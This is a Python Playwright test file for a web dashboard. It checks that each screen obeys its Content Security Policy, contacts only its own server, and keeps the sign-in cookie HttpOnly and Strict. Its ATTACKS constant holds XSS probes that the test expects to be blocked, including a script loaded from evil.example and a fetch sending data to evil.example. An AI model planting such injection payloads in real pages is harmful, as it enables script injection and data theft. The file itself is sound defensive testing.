"""What a browser may do on our screens: run our scripts, ask our server, and nothing else (docs/security.md: L8)."""

from typing import Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Request, WebSocket, expect

from components.navigation import SCREENS
from tests.browser.conftest import SignIn
from tests.dashboard import Dashboard, leave
from tests.screenshots import SCENES, Scene, a_stored_order, settled

pytestmark = pytest.mark.browser

WATCH: Final = """
window.refused = [];
addEventListener("securitypolicyviolation", (event) =>
  window.refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
ATTACKS: Final = """() => {
  const at = (what) => { window.attacks = [...(window.attacks ?? []), what]; };
  window.at = at;
  const script = document.createElement("script");
  script.textContent = "at('a script in the page')";
  document.body.append(script);
  const far = document.createElement("script");
  far.src = "https://evil.example/script.js";
  far.onload = () => at("a script of another host");
  document.body.append(far);
  document.body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="at(\\'a handler in a tag\\')">');
  document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script>parent.at(1)</script>"></iframe>');
  const link = document.createElement("a");
  link.href = "javascript:at('a link')";
  document.body.append(link);
  link.click();
  setTimeout(() => { try { (0, eval)("at('a text as a script')"); } catch { at(""); } });
  fetch("https://evil.example/?what=was-read").then(() => at("asked another host"), () => at(""));
  const far_socket = () => new WebSocket("wss://evil.example/");
  try { far_socket(); } catch { /* refused at once */ }
}"""


@pytest.fixture
def elsewhere(page: Page, dashboard: Dashboard) -> list[str]:
    """The hosts other than ours that the browser asked."""
    asked: list[str] = []
    ours = urlsplit(dashboard.url).netloc

    def note(what: Request | WebSocket) -> None:
        parts = urlsplit(what.url)
        if parts.scheme not in {"data", "blob"} and parts.netloc != ours:
            asked.append(what.url)

    page.on("request", note)
    page.on("websocket", note)
    page.add_init_script(WATCH)
    return asked


def refused(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.refused")
    return found


@pytest.mark.parametrize("scene", SCENES, ids=lambda scene: scene.name)
def test_every_screen_runs_under_the_policy_and_asks_nobody_but_our_server(
    page: Page, dashboard: Dashboard, sign_in: SignIn, elsewhere: list[str], scene: Scene
) -> None:
    sign_in(page, dashboard, scene.username)
    if scene.name == "record_sale":
        a_stored_order(page)
    title = next(screen.title for screen in SCREENS if screen.name == scene.screen)
    page.get_by_role("link", name=title, exact=True).click()
    settled(page)
    if (done := page.get_by_role("button", name="Next order")).is_visible():  # left by another scene
        done.click()
        settled(page)
    scene.before(page)
    page.emulate_media(color_scheme="dark")
    settled(page)
    page.emulate_media(color_scheme="light")
    assert (refused(page), elsewhere) == ([], [])


def test_what_is_seen_without_a_sign_in_asks_nobody_but_our_server(
    page: Page, dashboard: Dashboard, sign_in: SignIn, elsewhere: list[str]
) -> None:
    sign_in(page, dashboard, "staff")
    leave(page)
    expect(page.get_by_label("Password", exact=True)).to_be_visible(timeout=20_000)
    page.goto(f"{dashboard.url}/customer")
    expect(page.get_by_role("heading").first).to_be_visible(timeout=20_000)
    page.goto(f"{dashboard.url}/nonsense")
    expect(page.get_by_label("Password", exact=True)).to_be_visible(timeout=20_000)
    assert (refused(page), elsewhere) == ([], [])


def test_a_script_that_somebody_gets_into_a_screen_is_not_run(
    page: Page, dashboard: Dashboard, sign_in: SignIn, elsewhere: list[str]
) -> None:
    sign_in(page, dashboard, "staff")
    settled(page)
    page.evaluate(ATTACKS)
    page.wait_for_function("() => window.attacks.length >= 2 && window.refused.length >= 7")
    assert {each for each in page.evaluate("window.attacks") if each} == set()


def test_no_script_of_a_screen_reads_the_cookie_of_the_sign_in(
    page: Page, context: BrowserContext, dashboard: Dashboard, sign_in: SignIn
) -> None:
    sign_in(page, dashboard, "staff")
    kept = [one for one in context.cookies() if one["name"].startswith("warranty_desk")]
    assert {(one["httpOnly"], one["sameSite"]) for one in kept} == {(True, "Strict")}
    assert "warranty_desk" not in page.evaluate("document.cookie + JSON.stringify({...localStorage})")
